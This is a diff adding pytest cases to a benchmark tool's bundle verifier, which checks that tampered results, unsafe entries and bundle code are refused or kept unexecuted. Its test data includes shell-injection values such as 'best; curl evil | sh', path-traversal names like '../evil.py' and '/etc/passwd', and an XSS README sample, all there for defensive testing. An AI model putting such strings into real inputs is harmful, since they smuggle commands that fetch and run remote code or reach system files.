@@ -6,6 +6,7 @@ import hashlib
 import io
 import json
 import shutil
+import tempfile
 import time
 import tracemalloc
 import zipfile
@@ -15,6 +16,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 
+import toys
 from ebbench.isolation.box import why_not
 from ebbench.plugins import loader
 from ebbench.record import resultfiles
@@ -25,6 +27,9 @@ pytestmark = pytest.mark.usefixtures("maintainer")
 # Where this machine makes no box, a rerun has to be told to do without.
 UNBOXED = ["--unboxed"] if why_not() else []
 RUN = ["--task", "dots", "--model", "./mine", "--budget", "smoke", "--seeds", "0-4"]
+
+
+BASE = {"name": "gan", "code_hash": "0" * 64, "hash": "0" * 64, "steps": 1, "seconds": 1.0}
 
 
 @pytest.fixture(scope="session")
@@ -133,6 +138,16 @@ def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
         (lambda raw: raw.update(run_id="other"), "run id"),
         (lambda raw: raw.update(schema_version=99), "schema_version 99"),
         (lambda raw: raw.update(extra=1), "extra"),
+        (lambda raw: raw.update(budget="paper"), "config.steps"),
+        (lambda raw: raw["config"].update(steps=5), "config.steps"),
+        (lambda raw: raw["config"].update({"not a name": 5}), "config is"),
+        (lambda raw: raw["overrides"].update(evil="| sh"), "config.evil"),
+        (lambda raw: raw["sampler"].update(name="best; curl evil | sh"), "sampler.name"),
+        (lambda raw: raw["sampler"].update(knobs={"by": 1}), "sampler.knobs"),
+        (lambda raw: raw["training"].update(hash="0" * 64), "training.hash"),
+        (lambda raw: raw["scoring"].update(hash="0" * 64), "scoring.hash"),
+        (lambda raw: raw.update(engine=0), "engine"),
+        (lambda raw: raw["training"].update(base=BASE), "training.base"),
     ],
 )
 def test_a_claim_that_the_artefacts_do_not_bear_out_is_named(
@@ -161,6 +176,7 @@ def first(entries: dict[str, bytes], kind: str) -> str:
     [
         (lambda e: e.update({"../evil.py": b"x"}), "an entry called '../evil.py'"),
         (lambda e: e.update({"/etc/passwd": b"x"}), "an entry called"),
+        (lambda e: e.update({"model/Model.py": b"x"}), "stands twice"),
         (lambda e: e.update({"model/../../x": b"x"}), "an entry called"),
         (lambda e: e.pop("card.toml"), "no card.toml"),
         (lambda e: e.update({"card.toml": b"name = 3"}), "no model's card"),
@@ -372,7 +388,7 @@ def test_a_rerun_that_gives_other_numbers_is_refused(cli, bundle: Path, tmp_path
     other = rewritten(bundle, made_up)
     assert cli("verify", other, "--results", "board", "--dry").code == 0
     end = cli("verify", other, "--results", "board", "--rerun", *UNBOXED)
-    assert end.code == 2 and "error, run again" in end.err, end.out + end.err
+    assert end.code == 2 and "error, mean" in end.err, end.out + end.err
     assert not (tmp_path / "board").exists()
 
 
@@ -711,6 +727,64 @@ for target in Path({str(tmp_path)!r}).rglob("*.json"):
     assert victim.read_text() == "honest"
 
 
+def test_the_board_keeps_the_texts_of_a_bundle_and_runs_none(cli, bundle: Path, tmp_path: Path):
+    ran = tmp_path / "ran"
+    more = {
+        "model/LICENSE": b"Do as you like.",
+        "model/more.py": f"open({str(ran)!r}, 'w')".encode(),
+        "model/weights.bin": bytes(range(256)),
+        "model/binary.py": b"\xff\xfe",
+        "model/long.py": b"#" * (300 << 10),
+        "model/setup.cfg": b"[x]",
+    }
+
+    def change(entries: dict[str, bytes]) -> None:
+        entries |= more
+        for name in [name for name in entries if name.startswith("results/")]:
+            raw = json.loads(entries[name])
+            raw["model"]["code_hash"] = raw["provenance"]["code_hash"] = code_of(entries)
+            entries[name] = json.dumps(raw).encode()
+
+    other = rewritten(bundle, change)
+    assert cli("verify", other, "--results", "board", "--dry").code == 0
+    assert not (tmp_path / "board").exists()
+    said = cli("verify", other, "--results", "board")
+    assert said.code == 0, said.err
+    (folder,) = (tmp_path / "board" / "submissions").iterdir()
+    assert folder.name == hashlib.sha256(other.read_bytes()).hexdigest()[:16]
+    kept = {path.name: path.read_bytes() for path in folder.iterdir()}
+    names = ["card.toml", "README.md", "model/model.py", "model/LICENSE", "model/more.py", "model/setup.cfg"]
+    with zipfile.ZipFile(other) as packed:
+        assert kept == {f"{name.replace('/', '-')}.txt": packed.read(name) for name in names}
+    assert all(f"{name} is not kept" in said.out for name in more if name not in names)
+    assert not ran.exists()
+    # A second time is the same; another bundle's texts are not written over.
+    assert cli("verify", other, "--results", "board").code == 0
+    (folder / "model-more.py.txt").write_bytes(b"other")
+    said = cli("verify", other, "--results", "board")
+    assert said.code == 2 and "another bundle" in said.err
+
+
+def code_of(entries: dict[str, bytes]) -> str:
+    """The hash of the code in the entries of a bundle, as the engine hashes a folder."""
+    with tempfile.TemporaryDirectory() as scratch:
+        folder = Path(scratch) / "mine"
+        folder.mkdir()
+        (folder / "card.toml").write_bytes(entries["card.toml"])
+        for name in [name for name in entries if name.startswith("model/")]:
+            (folder / name.removeprefix("model/")).write_bytes(entries[name])
+        return loader.Plugin("model", folder).code_hash
+
+
+def test_what_no_honest_result_has_is_refused_and_why_is_said(cli, plugins: Path, tmp_path: Path):
+    limit = 'limits = (Limit(metric="spread", most=0.1, why="the data spread by no more"),)'
+    code = toys.TASK.replace("import DataSpec,", "import DataSpec, Limit,")
+    (plugins / "dots" / "task.py").write_text(code.replace("    needs =", f"    {limit}\n    needs ="))
+    said = cli(*made_elsewhere(tmp_path))
+    assert said.code == 2 and "the data spread by no more" in said.err, said.err
+    assert not (tmp_path / "afar.zip").exists()
+
+
 README = """# Mine
 
 A *model* of mine, <script>alert(1)</script> and [bad](javascript:alert(2)), [odd](data:text/html,x),
@@ -747,3 +821,25 @@ def test_the_page_of_a_submission_keeps_its_words_and_obeys_none(cli, plugins: P
             and (tmp_path / "site" / "methods" / f"mine-{name}.txt").is_file()
         )
     assert "ebbench run --task dots --model ./mine --budget smoke" in page
+
+
+def test_several_tasks_and_protocols_go_into_one_bundle(cli, plugins: Path, tmp_path: Path):
+    # One training under two protocols, and another task on the same data: their samples may be the same.
+    toys.write_task(plugins, toys.TASK.replace("DotsTask", "SpotsTask"), "spots")
+    assert cli("new", "model", "mine").code == 0
+    for task, protocol in (("dots", "clean"), ("dots", "published"), ("spots", "clean")):
+        words = ["run", "--task", task, "--protocol", protocol, *RUN[2:-1], "0-1"]
+        assert cli(*words, "--results", "made", "--quiet").code == 0
+    said = cli("submit", "./mine", "--results", "made", "--quiet")
+    assert said.code == 0 and "6 results" in said.out, said.err
+    assert cli("verify", "mine.zip", "--results", "board").code == 0
+    made, _ = resultfiles.load_all(tmp_path / "board")
+    assert sorted((one.task.name, one.task.protocol, one.seed) for one in made) == [
+        ("dots", "clean", 0),
+        ("dots", "clean", 1),
+        ("dots", "published", 0),
+        ("dots", "published", 1),
+        ("spots", "clean", 0),
+        ("spots", "clean", 1),
+    ]
+    assert len({one.verification.details["arrays"] for one in made}) == 2, "that is what is tested"
